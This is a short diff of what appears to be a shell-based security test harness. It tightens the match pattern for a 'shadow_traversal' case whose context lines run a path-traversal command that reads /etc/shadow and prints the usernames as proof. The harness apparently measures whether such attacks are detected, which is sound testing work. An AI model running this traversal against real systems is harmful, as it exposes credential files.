@@ -50,8 +50,8 @@ run_attack() {
       t1=$(now_ms)
       grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
       proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
-    shadow_traversal)
-      kinds="file"; re='shadow'
+    shadow_traversal) # the agent makes paths lexical: reported where the read lands
+      kinds="file"; re='^/etc/shadow$'
       t0=$(now_ms)
       out="$(chan_run "$svc" "$id" 20 "cat $(traversal_base "$svc")/../../../etc/shadow"' | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo')" || rc=$?
       t1=$(now_ms)
